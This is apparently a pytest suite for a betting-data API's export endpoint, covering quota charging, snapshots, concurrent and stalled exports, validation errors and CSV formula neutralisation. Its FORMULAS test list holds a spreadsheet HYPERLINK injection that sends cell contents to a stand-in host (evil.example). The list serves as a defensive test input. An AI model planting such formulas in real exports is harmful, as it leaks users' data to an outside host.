"""Data API exports on small worlds: the quota charge (exact, before the first byte, also under
concurrent exports through a real gunicorn), the snapshot, the export record and bad requests."""

import csv
import io
import json
import os
import socket
import time
import urllib.error
import urllib.request
from datetime import UTC, datetime, timedelta

import pytest
from peewee import fn

from engine.records import LeagueRecord, MatchRecord, OddsRecord
from models import Export, OddsQuote
from services.feeds import imports
from tests import asserts, factories, helpers
from tests.servers import gunicorn
from web import ratelimits

ON_POSTGRES = bool(os.environ.get("TEST_DATABASE_URL"))
EXPORTS = "/api/v1/data/exports"
USAGE = "/api/v1/data/usage"
CATALOG = "/api/v1/data/catalog"
KICKOFF = datetime(2026, 3, 7, 15, tzinfo=UTC)
BOOKMAKERS = ("pinnacle", "bet365", "bwin", "unibet")
SELECTIONS = {"1x2": ("home", "draw", "away"), "ou25": ("over", "under"), "btts": ("yes", "no")}
LEAGUE = LeagueRecord("TST", "Test League", "Testland", "top-flight")
CUP = LeagueRecord("CUP", "Test Cup", "Testland", "cup")


def quotes(bookmakers=BOOKMAKERS, closing=False):
    """Every selection of every market from each of ``bookmakers``: 7 quotes a bookmaker."""
    return [
        OddsRecord(bookmaker, market, selection, 1.5 + index / 10, closing)
        for bookmaker in bookmakers
        for market, names in SELECTIONS.items()
        for index, selection in enumerate(names)
    ]


def store_matches(count, league=LEAGUE, odds=None, start=KICKOFF, prefix=None):
    """``count`` finished matches of ``league`` a day apart between teams named from ``prefix``
    (default: the league's code), each with ``odds`` (default: 28 quotes), stored in one import;
    returns the number of quotes stored."""
    prefix = prefix or league.code
    odds = quotes() if odds is None else odds
    records = [
        MatchRecord(
            league=league,
            season="2025-26",
            kickoff_at=start + timedelta(days=day),
            home_team=f"{prefix} H{day}",
            away_team=f"{prefix} A{day}",
            status="finished",
            home_goals=day % 3,
            away_goals=1,
            odds=odds,
        )
        for day in range(count)
    ]
    imports.store_records(records)
    return count * len(odds)


@pytest.fixture
def small(make_app):
    """Build an app (with ``overrides``) holding 3 league matches and 1 cup match with 28 quotes
    each: 112 odds, 8 teams, 2 leagues. Returns (app, client, people)."""

    def build(**overrides):
        app = make_app(**overrides)
        with app.app_context():
            store_matches(3)
            store_matches(1, league=CUP)
            people = factories.people()
        return app, app.test_client(), people

    return build


def export(client, headers, resource="odds", format_="csv", parameters=None, **options):
    """POST an export; ``parameters`` (a dict) travel as the parametersJson string."""
    body = {"resource": resource, "format": format_}
    if parameters is not None:
        body["parametersJson"] = json.dumps(parameters)
    return client.post(EXPORTS, json=body, headers=headers, **options)


def csv_rows(text):
    """The rows of a CSV export."""
    return list(csv.DictReader(io.StringIO(text)))


def usage(client, headers):
    """The caller's usage report."""
    response = client.get(USAGE, headers=headers)
    assert response.status_code == 200
    return response.get_json()


def test_an_export_is_charged_and_recorded_before_its_first_byte(small):
    app, client, people = small()
    user, headers = people["pro"]
    response = export(client, headers, "odds", "csv", {"leagueId": 1})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["X-Row-Count"] == "84"
    # Nothing of the body is read yet: the quota and the record already hold the export.
    report = usage(client, headers)
    assert report["exports"] == {"used": 1, "limit": 500, "remaining": 499}
    assert report["exportRows"] == {"used": 84, "limit": 2_000_000, "remaining": 1_999_916}
    with app.app_context():
        record = Export.get_by_id(int(response.headers["X-Export-Id"]))
        assert (record.user_id, record.resource, record.format) == (user.id, "odds", "csv")
        assert (record.parameters, record.row_count) == ({"leagueId": 1}, 84)
    assert len(csv_rows(response.get_data(as_text=True))) == 84
    after = usage(client, headers)
    assert (after["exports"]["used"], after["exportRows"]["used"]) == (1, 84)
    assert after["requests"]["used"] == 1  # the export itself; usage reports are free


def test_an_export_streams_exactly_the_rows_it_counted(small):
    """Rows stored after the count are not in the body: it reads the snapshot it counted."""
    app, client, people = small()
    response = export(client, people["pro"][1], "odds", "ndjson")
    assert response.headers["X-Row-Count"] == "112"
    with app.app_context():
        store_matches(2, start=KICKOFF + timedelta(days=30), prefix="Late")
        assert OddsQuote.select().count() == 168
    lines = response.get_data(as_text=True).splitlines()
    assert len(lines) == 112 and len(set(lines)) == 112
    again = export(client, people["pro"][1], "odds", "ndjson")
    assert again.headers["X-Row-Count"] == "168"
    assert len(again.get_data(as_text=True).splitlines()) == 168


def test_an_export_closed_unread_does_not_hold_its_snapshot(small):
    """A response closed before its body was read (a client gone) ends its snapshot."""
    _app, client, people = small()
    headers = people["pro"][1]
    dropped = export(client, headers, "teams", "csv")
    assert dropped.status_code == 200
    dropped.close()
    response = export(client, headers, "teams", "csv")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert len(csv_rows(response.get_data(as_text=True))) == 8


def test_an_export_dropped_before_its_body_does_not_break_the_next(small, monkeypatch, caplog):
    """When the response of a counted export is dropped before its body starts (here an
    after-request hook fails, so the client gets a 500), the snapshot it opened on the thread's
    reader connection must not make every later export on that thread fail."""
    _app, client, people = small()
    headers = people["pro"][1]
    real_headers, failures = ratelimits.headers, []

    def failing_once():
        if not failures:
            failures.append(1)
            raise ConnectionError("rate-limit storage went away")
        return real_headers()

    monkeypatch.setattr(ratelimits, "headers", failing_once)
    asserts.problem(export(client, headers, "teams", "csv"), 500, "internal-error")
    response = export(client, headers, "teams", "csv")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert len(csv_rows(response.get_data(as_text=True))) == 8


def test_an_export_that_does_not_fit_is_a_429_and_charges_nothing(small):
    app, client, people = small(QUOTA_PRO_EXPORT_ROWS=100)
    headers = people["pro"][1]
    assert export(client, headers, "odds", "csv", {"leagueId": 1}).status_code == 200  # 84
    refused = export(client, headers, "odds", "json", {"leagueId": 2})  # 28 > 16
    body = asserts.problem(refused, 429, "quota-exceeded")
    assert "exported-row quota has 16 left" in body["detail"]
    assert int(refused.headers["Retry-After"]) >= 1
    assert "X-Export-Id" not in refused.headers
    report = usage(client, headers)
    assert (report["exports"]["used"], report["exportRows"]["used"]) == (1, 84)
    assert report["requests"]["used"] == 2  # the refused export was still a request
    with app.app_context():
        assert Export.select().count() == 1
    # What fits still goes: 8 teams, then 8 again, which reaches the limit exactly.
    for _ in range(2):
        response = export(client, headers, "teams", "ndjson")
        assert response.status_code == 200
        assert len(response.get_data(as_text=True).splitlines()) == 8
    report = usage(client, headers)
    assert report["exportRows"] == {"used": 100, "limit": 100, "remaining": 0}
    assert report["state"] == "exceeded"
    spent = asserts.problem(export(client, headers, "leagues", "csv"), 429, "quota-exceeded")
    assert "exported-row quota is spent" in spent["detail"]
    # An export of no rows still fits.
    empty = export(client, headers, "odds", "csv", {"leagueId": 99})
    assert empty.status_code == 200 and empty.headers["X-Row-Count"] == "0"
    assert empty.get_data(as_text=True).strip() == ",".join(
        ["matchId", "bookmaker", "market", "selection", "price", "isClosing", "line"]
    )
    assert usage(client, headers)["exports"]["used"] == 4


def test_the_number_of_exports_runs_out(small):
    _app, client, people = small(QUOTA_PRO_EXPORTS=2)
    headers = people["pro"][1]
    for format_ in ("csv", "json"):
        response = export(client, headers, "leagues", format_)
        assert response.status_code == 200
        response.get_data()
    body = asserts.problem(export(client, headers, "leagues", "ndjson"), 429, "quota-exceeded")
    assert "export quota is spent" in body["detail"]
    report = usage(client, headers)
    assert report["exports"] == {"used": 2, "limit": 2, "remaining": 0}
    assert report["exportRows"]["used"] == 4


def test_admins_exports_are_counted_without_a_limit(small):
    _app, client, people = small(QUOTA_PRO_EXPORT_ROWS=1, QUOTA_PRO_EXPORTS=1)
    headers = people["admin"][1]
    for _ in range(2):
        response = export(client, headers, "odds", "ndjson")
        assert response.status_code == 200
        assert len(response.get_data(as_text=True).splitlines()) == 112
    report = usage(client, headers)
    assert report["exports"] == {"used": 2, "limit": None, "remaining": None}
    assert report["exportRows"] == {"used": 224, "limit": None, "remaining": None}


# Bad requests: 422s that charge nothing


@pytest.mark.parametrize(
    ("body", "field", "message"),
    [
        ({"resource": "fixtures", "format": "csv"}, "resource", "Must be one of: matches, picks"),
        ({"resource": "odds", "format": "xml"}, "format", "Must be one of: csv, json, ndjson."),
        ({"format": "csv"}, "resource", "Missing data"),
        ({"resource": "odds"}, "format", "Missing data"),
        ({"resource": "odds", "format": "csv", "parametersJson": "{"}, "parametersJson", "JSON"),
        ({"resource": "odds", "format": "csv", "parametersJson": ""}, "parametersJson", "JSON"),
        (
            {"resource": "odds", "format": "csv", "parametersJson": "leagueId=1"},
            "parametersJson",
            "JSON object",
        ),
        ({"resource": "odds", "format": "csv", "parametersJson": "[]"}, "parametersJson", "object"),
        (
            {"resource": "odds", "format": "csv", "parametersJson": '{"leagueId":1,"leagueId":2}'},
            "parametersJson",
            "Names 'leagueId' twice.",
        ),
        ({"resource": "odds", "format": "csv", "parametersJson": "3"}, "parametersJson", "object"),
        (
            {"resource": "odds", "format": "csv", "parametersJson": "null"},
            "parametersJson",
            "object",
        ),
        (
            {"resource": "odds", "format": "csv", "parametersJson": '"{}"'},
            "parametersJson",
            "object",
        ),
        (
            {"resource": "odds", "format": "csv", "parametersJson": {"leagueId": 1}},
            "parametersJson",
            "Not a valid string",
        ),
        (
            {"resource": "odds", "format": "csv", "parametersJson": '{"leagueId": "1"}'},
            "parametersJson.leagueId",
            "integer",
        ),
        (
            {"resource": "odds", "format": "csv", "parametersJson": '{"leagueId": 0}'},
            "parametersJson.leagueId",
            "greater than or equal to 1",
        ),
        (
            {"resource": "picks", "format": "csv", "parametersJson": '{"from": "2026-02-30"}'},
            "parametersJson.from",
            "2026-02-30 is not a real date",
        ),
        (
            {
                "resource": "matches",
                "format": "csv",
                "parametersJson": '{"from": "2026-02-02", "to": "2026-02-01"}',
            },
            "parametersJson.to",
            "Must not be before from.",
        ),
        (
            {"resource": "picks", "format": "csv", "parametersJson": '{"rating": "A,D"}'},
            "parametersJson.rating",
            "A, B, C",
        ),
        (
            {"resource": "odds", "format": "csv", "parametersJson": '{"isClosing": "maybe"}'},
            "parametersJson.isClosing",
            "boolean",
        ),
        (
            {"resource": "matches", "format": "csv", "parametersJson": '{"status": "over"}'},
            "parametersJson.status",
            "scheduled, live, finished, postponed, cancelled",
        ),
    ],
)
def test_bad_export_requests_are_422s_that_charge_nothing(small, body, field, message):
    app, client, people = small()
    headers = people["pro"][1]
    response = client.post(EXPORTS, json=body, headers=headers)
    problem = asserts.problem(response, 422, "validation-error")
    assert list(problem["errors"]) == [field], problem
    assert message in problem["errors"][field][0], problem
    report = usage(client, headers)
    assert (report["exports"]["used"], report["exportRows"]["used"]) == (0, 0)
    with app.app_context():
        assert Export.select().count() == 0


def test_an_unknown_filter_is_a_422_naming_the_allowed_ones(small):
    _app, client, people = small()
    headers = people["pro"][1]
    resources = client.get(CATALOG, headers=headers).get_json()["resources"]
    assert len(resources) == 7
    for resource in resources:
        name, filters = resource["name"], resource["filters"]
        response = export(client, headers, name, "json", {"colour": "red"})
        problem = asserts.problem(response, 422, "validation-error")
        assert list(problem["errors"]) == ["parametersJson.colour"], problem
        (message,) = problem["errors"]["parametersJson.colour"]
        allowed = ", ".join(filters) or "none"
        assert message == f"Unknown filter for {name}; allowed: {allowed}.", message


# Concurrent exports through a real gunicorn


def post_export(base, token, resource, format_, parameters=None):
    """(status, headers, body bytes) of one export over HTTP, the body read to its end."""
    body = {"resource": resource, "format": format_, "parametersJson": json.dumps(parameters or {})}
    request = urllib.request.Request(
        f"{base}{EXPORTS}",
        data=json.dumps(body).encode(),
        method="POST",
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


def get_usage(base, token):
    """The usage report over HTTP."""
    request = urllib.request.Request(f"{base}{USAGE}", headers={"Authorization": f"Bearer {token}"})
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.loads(response.read())


def rows_in(format_, payload: bytes) -> int:
    """The number of rows in an export's body."""
    text = payload.decode()
    if format_ == "csv":
        return len(csv_rows(text))
    if format_ == "json":
        return len(json.loads(text)["items"])
    return len(text.splitlines())


@pytest.mark.slow
def test_concurrent_exports_are_charged_exactly_through_gunicorn(make_app):
    """Eight exports at once against a row limit that fits three: exactly three go, and the
    counters hold exactly what they streamed; an admin's eight all go, each counted once."""
    threads, fits = 8, 3
    app = make_app()
    with app.app_context():
        size = store_matches(40)  # 1,120 quotes: exports long enough to overlap
        pro = factories.user("pro@example.com", plan="pro")
        admin = factories.user("admin@example.com", role="admin")
        tokens = {"pro": factories.token(pro), "admin": factories.token(admin)}
    limit = size * fits + size // 2
    formats = ("csv", "ndjson", "json")
    # Stream bounds out of the way: the quota is what this counts.
    streams = {"EXPORT_STREAMS_PER_USER": threads, "EXPORT_STREAMS_PER_PROCESS": threads}
    with gunicorn(app, QUOTA_PRO_EXPORT_ROWS=limit, LOG_LEVEL="WARNING", **streams) as (base, _):
        for kind in ("pro", "admin"):
            results = helpers.at_once(
                threads,
                lambda index, kind=kind: post_export(
                    base, tokens[kind], "odds", formats[index % 3]
                ),
            )
            done = [(index, r) for index, r in enumerate(results) if r[0] == 200]
            refused = [r for r in results if r[0] != 200]
            expected = fits if kind == "pro" else threads
            assert len(done) == expected, [r[0] for r in results]
            for index, (_, headers, payload) in done:
                assert int(headers["X-Row-Count"]) == size
                assert rows_in(formats[index % 3], payload) == size
            for status, headers, payload in refused:
                assert status == 429 and headers["Content-Type"] == "application/problem+json"
                assert json.loads(payload)["type"].endswith("/problems/quota-exceeded")
            report = get_usage(base, tokens[kind])
            assert report["requests"]["used"] == threads
            assert report["exports"]["used"] == expected
            assert report["exportRows"]["used"] == expected * size
            if kind == "pro":
                assert report["exportRows"]["used"] <= limit
    with app.app_context():
        counted = {
            user_id: (exports, rows)
            for user_id, exports, rows in Export.select(
                Export.user, fn.COUNT(1), fn.SUM(Export.row_count)
            )
            .group_by(Export.user)
            .tuples()
        }
        assert counted == {pro.id: (fits, fits * size), admin.id: (threads, threads * size)}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


def test_csv_exports_neutralise_formula_cells(make_app):
    """Text a spreadsheet would run as a formula is written with a leading ' (OWASP), in CSV
    only; numbers (negative ones too) and JSON are as stored."""
    app = make_app()
    with app.app_context():
        records = [
            MatchRecord(
                league=LEAGUE,
                season="2025-26",
                kickoff_at=KICKOFF + timedelta(days=day),
                home_team=name,
                away_team=f"Plain {day}",
                status="finished",
                home_goals=0,
                away_goals=1,
                odds=quotes(),
            )
            for day, name in enumerate(FORMULAS)
        ]
        imports.store_records(records)
        headers = factories.people()["pro"][1]
    client = app.test_client()
    rows = csv_rows(export(client, headers, "teams", "csv").get_data(as_text=True))
    names = {row["name"] for row in rows}
    assert {"'" + name for name in FORMULAS} <= names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    matches = csv_rows(export(client, headers, "matches", "csv").get_data(as_text=True))
    assert {row["homeTeamName"] for row in matches} == {"'" + name for name in FORMULAS}
    items = export(client, headers, "teams", "json").get_json()["items"]
    assert set(FORMULAS) <= {item["name"] for item in items}  # JSON carries the data as it is


def test_csv_neutralising_leaves_numbers_and_plain_text_alone():
    from web.streams import neutralised

    assert neutralised(-3.91) == -3.91 and neutralised(0) == 0 and neutralised(None) is None
    assert neutralised("Brighton & Hove") == "Brighton & Hove" and neutralised("") == ""
    assert neutralised("-1") == "'-1"


def test_csv_cells_holding_a_line_break_stay_in_their_row(make_app):
    app = make_app()
    with app.app_context():
        store_matches(1, prefix="Two\nLines\r")
        headers = factories.people()["pro"][1]
    rows = csv_rows(export(app.test_client(), headers, "teams", "csv").get_data(as_text=True))
    assert len(rows) == 2
    assert {row["name"] for row in rows} == {"Two\nLines\r H0", "Two\nLines\r A0"}


@pytest.mark.parametrize("format_", ["csv", "ndjson"])
def test_an_abandoned_export_closes_its_cursor_before_its_snapshot(small, format_):
    """A body read in part, then dropped (a client gone mid-download): the rows' cursor ends
    before the snapshot's connection, so nothing is left to close on a closed database (which
    Python reports as "Exception ignored", an error under filterwarnings=error)."""
    import gc

    app, client, people = small()
    with app.app_context():
        store_matches(120, prefix="Many")  # several chunks of rows
    response = export(client, people["pro"][1], "odds", format_, buffered=False)
    assert response.status_code == 200
    body = iter(response.response)
    next(body), next(body)  # the header, then the first chunk of rows: the cursor is open
    response.close()
    del body, response
    gc.collect()
    again = export(client, people["pro"][1], "teams", "csv")
    assert again.status_code == 200


# Stalled readers through a real gunicorn


def _stall(port, token, resource="odds", format_="ndjson"):
    """Open an export on a socket with a small receive buffer, read its first bytes, then stop
    reading: (the socket, the status code)."""
    body = json.dumps({"resource": resource, "format": format_}).encode()
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(30)
    sock.connect(("127.0.0.1", port))
    sock.sendall(
        b"POST " + EXPORTS.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        b"Content-Type: application/json\r\nAuthorization: Bearer " + token.encode() + b"\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
    )
    head = b""
    while len(head) < 200 and b"\r\n\r\n" not in head:
        head += sock.recv(200)
    return sock, int(head.split(b" ", 2)[1])


def _drain(sock) -> int:
    """Bytes left to read on ``sock`` until the server closes it."""
    total = 0
    try:
        while chunk := sock.recv(65536):
            total += len(chunk)
    except ConnectionResetError:
        pass
    finally:
        sock.close()
    return total


def _timed_get(base, path, timeout):
    """(status, seconds) of a GET that must answer within ``timeout`` seconds."""
    started = time.monotonic()
    with urllib.request.urlopen(f"{base}{path}", timeout=timeout) as response:
        response.read()
        return response.status, time.monotonic() - started


@pytest.mark.slow
def test_stalled_export_readers_never_hold_the_service(make_app):
    """Eight exports whose readers stall after ~200 bytes: exactly four stream (two for each of
    two callers; a caller's third and anything past the process's four are 429s that charge
    nothing), /healthz and a public read answer meanwhile, long before any stall is cut, and the
    stalled streams are cut within the send timeout, their places and snapshots given back."""
    timeout = 10.0  # long enough to open every stall before the first is cut, on a busy machine
    app = make_app()
    with app.app_context():
        # 84,000 quotes: an NDJSON body over 8 MB, twice what the server's socket may buffer
        store_matches(3000)
        users = [factories.user(f"pro{n}@example.com", plan="pro") for n in range(3)]
        tokens = [factories.token(user) for user in users]
    settings = {
        "EXPORT_SEND_TIMEOUT": timeout,
        "EXPORT_STREAMS_PER_USER": 2,
        "EXPORT_STREAMS_PER_PROCESS": 4,
        "LOG_LEVEL": "WARNING",
        "WEB_CONCURRENCY": 1,  # one process: its bounds are the ones counted here
    }
    with gunicorn(app, **settings) as (base, _):
        port = int(base.rsplit(":", 1)[1])
        status, _, whole = post_export(base, tokens[2], "odds", "ndjson")
        assert status == 200 and len(whole) > 8_000_000
        began = time.monotonic()
        opened = [_stall(port, tokens[n]) for n in (0, 0, 0, 1, 1, 1, 2, 2)]
        statuses = [status for _, status in opened]
        opened_at = time.monotonic()
        assert opened_at - began < timeout  # none could have been cut yet
        assert statuses == [200, 200, 429, 200, 200, 429, 429, 429]
        stalled = [sock for sock, status in opened if status == 200]
        try:
            for sock, status in opened:
                if status != 200:
                    sock.close()
            # Answered long before the first stall is cut (``timeout``): not waiting for one.
            for path in ("/healthz", "/api/picks/today", "/readyz"):
                status, seconds = _timed_get(base, path, timeout=timeout / 2)
                assert status == 200 and seconds < timeout / 2, (path, seconds)
            if ON_POSTGRES:
                with app.app_context():
                    assert _idle_in_transaction() <= 4  # one snapshot per open stream at most
            # Every stream stalled within ``timeout`` of ``opened_at`` is cut by then plus the
            # watcher's tick (1 s): give it 10 s more, then each is found cut short, and its
            # caller's places are back.
            time.sleep(max(0.0, opened_at + timeout + 10 - time.monotonic()))
            for sock in stalled:
                assert _drain(sock) < len(whole)  # cut short, not sent to its end
        finally:
            for sock, _ in opened:
                sock.close()
        for token in tokens[:2]:
            assert post_export(base, token, "leagues", "csv")[0] == 200
        usage = get_usage(base, tokens[0])
        assert usage["exports"]["used"] == 3  # its two stalled exports and the last; no 429s
        if ON_POSTGRES:
            with app.app_context():
                assert _idle_in_transaction() == 0


def _idle_in_transaction() -> int:
    """Sessions of this database left idle inside a transaction (an open snapshot)."""
    from store.database import db

    return db.execute_sql(
        "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
        "AND state = 'idle in transaction' AND pid <> pg_backend_pid()"
    ).fetchone()[0]


def test_exports_past_the_callers_streams_are_429s_that_charge_nothing(small):
    """Two unread exports hold the caller's two places: a third is a 429 too-many-exports with
    Retry-After, charged nothing; past the process's three, anyone's is; once one is closed,
    the next goes."""
    _app, client, people = small(EXPORT_STREAMS_PER_USER=2, EXPORT_STREAMS_PER_PROCESS=3)
    headers = people["pro"][1]
    held = [export(client, headers, "teams", "csv", buffered=False) for _ in range(2)]
    assert [response.status_code for response in held] == [200, 200]
    before = usage(client, headers)
    refused = export(client, headers, "teams", "csv")
    body = asserts.problem(refused, 429, "too-many-exports")
    assert int(refused.headers["Retry-After"]) >= 1 and "account" in body["detail"]
    after = usage(client, headers)
    assert after["exports"] == before["exports"]
    assert after["exportRows"] == before["exportRows"]
    other = people["admin"][1]
    held.append(export(client, other, "teams", "csv", buffered=False))
    assert held[-1].status_code == 200
    by_server = asserts.problem(export(client, other, "teams", "csv"), 429, "too-many-exports")
    assert "server" in by_server["detail"]
    # Closed last first: each unread body holds its request context on this one thread.
    held.pop().close()
    held.pop().close()
    response = export(client, headers, "teams", "csv")
    assert response.status_code == 200 and len(csv_rows(response.get_data(as_text=True))) == 8
    held.pop().close()


@pytest.mark.parametrize(
    ("format_", "accept", "status"),
    [
        ("csv", "application/json", 406),
        ("json", "text/csv", 406),
        ("ndjson", "text/*", 406),
        ("csv", "text/*", 200),
        ("csv", "application/json, text/csv;q=0.5", 200),
        ("ndjson", "*/*", 200),
        ("json", "application/json", 200),
    ],
)
def test_an_export_honours_accept_before_charging_anything(small, format_, accept, status):
    _, client, people = small()
    headers = {**people["pro"][1], "Accept": accept}
    response = export(client, headers, "odds", format_)
    assert response.status_code == status
    report = usage(client, people["pro"][1])
    if status == 406:
        problem = asserts.problem(response, 406, "not-acceptable")
        assert format_ in problem["detail"] and accept.split(",")[0] in problem["detail"]
        assert (report["exports"]["used"], report["exportRows"]["used"]) == (0, 0)
    else:
        assert report["exports"]["used"] == 1
        response.close()


def test_a_picks_export_carries_each_picks_suggested_stake_in_every_format(make_app):
    """Stakes from two settled picks of a rating and price band on, capped at 5 %: four settled
    B picks at 2.5 two days apart (the first two made with fewer than two results known), then a
    coming B pick and a coming A pick (no settled A pick behind it). Each row's stake is the
    match card's, in its own last column of a CSV."""
    now = datetime(2026, 5, 1, 12, tzinfo=UTC)
    stake = 0.25 / 6  # a quarter of Kelly at 0.5 and 2.5: (1.25 − 1) / 1.5 / 4
    app = make_app(CLOCK=lambda: now, STAKE_MIN_SETTLED=2, STAKE_CAP=0.05)
    client = app.test_client()
    with app.app_context():
        for day in range(4):
            kickoff = now - timedelta(days=20 - 2 * day)
            won = day % 2 == 0
            factories.pick(
                factories.match(f"H{day}", f"A{day}", kickoff=kickoff),
                odds=2.5, probability=0.5, rating="B", is_live=True,
                created_at=kickoff - timedelta(hours=1),
                status="won" if won else "lost", profit=1.5 if won else -1.0,
            )  # fmt: skip
        coming = factories.match(
            "Gamma", "Delta", kickoff=now + timedelta(days=1), status="scheduled"
        )
        factories.pick(coming, "ou25", "over", odds=2.5, probability=0.5, created_at=now)
        factories.pick(coming, odds=2.5, probability=0.5, rating="A", created_at=now)
        people = factories.people()
    headers = people["pro"][1]
    expected = [0.0, 0.0, stake, stake, stake, 0.0]  # by kick-off, then id
    card = helpers.ok(client.get(f"/api/matches/{coming.id}", headers=headers))
    assert [pick["suggestedStake"] for pick in card["picks"]] == pytest.approx(
        expected[4:], abs=1e-6
    )
    text = export(client, headers, "picks", "csv").get_data(as_text=True)
    assert text.splitlines()[0].split(",")[-1] == "suggestedStake"  # the others keep their place
    found = [float(row["suggestedStake"]) for row in csv_rows(text)]
    assert found == pytest.approx(expected, abs=1e-6)
    items = export(client, headers, "picks", "json").get_json()["items"]
    assert [item["suggestedStake"] for item in items] == pytest.approx(expected, abs=1e-6)
    lines = export(client, headers, "picks", "ndjson").get_data(as_text=True).splitlines()
    found = [json.loads(line)["suggestedStake"] for line in lines]
    assert found == pytest.approx(expected, abs=1e-6)
    # The catalog lists the field with the others.
    catalog = client.get(CATALOG, headers=headers).get_json()
    assert "suggestedStake" in json.dumps(catalog)
